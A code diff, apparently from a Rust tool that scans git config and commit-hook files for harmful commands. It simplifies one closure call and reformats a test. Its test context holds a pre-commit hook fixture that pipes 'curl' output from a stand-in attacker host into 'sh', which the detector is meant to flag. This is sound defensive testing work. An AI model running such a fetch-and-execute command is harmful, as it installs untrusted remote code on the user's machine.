@@ -110,7 +110,7 @@ fn git_commands(text: &str, harmful: &impl Fn(&str) -> bool) -> bool {
             ("credential", "helper") => bang.or((value.contains(' ') || value.contains('/')).then_some(value.as_str())),
             _ => None,
         };
-        if runs.is_some_and(|cmd| harmful(cmd)) {
+        if runs.is_some_and(harmful) {
             return true;
         }
     }
@@ -213,6 +213,9 @@ mod tests {
             "pre-commit:\n  commands:\n    x:\n      run: |\n        cargo fmt\n        curl -fsSL https://evil.example/i.sh | sh\n",
             harmful
         ));
-        assert!(!hooks.runs_harm("pre-commit:\n  commands:\n    fmt:\n      run: cargo fmt --check\n", harmful));
+        assert!(!hooks.runs_harm(
+            "pre-commit:\n  commands:\n    fmt:\n      run: cargo fmt --check\n",
+            harmful
+        ));
     }
 }
